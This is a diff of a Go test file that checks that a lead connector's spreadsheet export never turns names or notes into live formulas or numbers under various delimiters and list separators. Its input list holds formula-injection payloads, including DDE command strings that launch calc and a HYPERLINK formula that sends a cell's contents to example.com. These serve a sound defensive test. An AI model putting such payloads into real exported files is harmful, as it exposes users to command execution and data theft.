@@ -100,7 +100,7 @@ var dangerous = []string{
 	"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://example.com/?"&B1,"click")`, "@SUM(1)", "-1+1", "-2+3+cmd|' /C calc'!A0",
 	"+44 123", "+441234567890", "0007", "4915112345678", "12345678901234567890", "1.50", "1/2", "2026-03-14", "3.5.2026", "12:30",
 	"5 May 2026", "50%", "$5", "1e5", "(5)", "'0007", "'=1+1", "\u00a0=1+1", "＝1+1", "−5",
-	"a;=1+1", "a;\"=1+1", "a\n=1+1", "a\";=1+1;\"", "\";\n=1+1\n;",
+	"a;=1+1", "a,=1+1,b", "a;\"=1+1", "a\n=1+1", "a\";=1+1;\"", "\";\n=1+1\n;",
 }
 
 func TestT26NothingBecomesAFormulaOrANumberInLibreOffice(t *testing.T) {
@@ -138,21 +138,23 @@ func TestT26NothingBecomesAFormulaOrANumberInLibreOffice(t *testing.T) {
 	}
 }
 
-// The file is opened as Excel does where its list separator is the other one.
+// The file is opened as Excel does where its list separator is another than the file's.
 func TestT26NothingBecomesAFormulaWhereTheListSeparatorIsAnother(t *testing.T) {
-	path := newPath(t)
 	var changes []lead.Change
 	for i, text := range dangerous {
 		l := connectortest.Sample(i)
 		l.Name, l.Note = text, text
 		changes = append(changes, connectortest.Created(l))
 	}
-	push(t, sheetOf(t, path, nil), changes...)
-	for _, separators := range []string{"59", "59/44", "9"} {
-		for _, row := range opened(t, path, separators) {
-			for _, cell := range row {
-				if cell.formula != "" {
-					t.Errorf("separators %s: a live formula %q", separators, cell.formula)
+	for delimiter, others := range map[string][]string{",": {"59", "59/44", "9"}, "|": {"44", "59/44"}} {
+		path := newPath(t)
+		push(t, sheetOf(t, path, map[string]any{"delimiter": delimiter}), changes...)
+		for _, separators := range others {
+			for _, row := range opened(t, path, separators) {
+				for _, cell := range row {
+					if cell.formula != "" {
+						t.Errorf("delimiter %s, separators %s: a live formula %q", delimiter, separators, cell.formula)
+					}
 				}
 			}
 		}
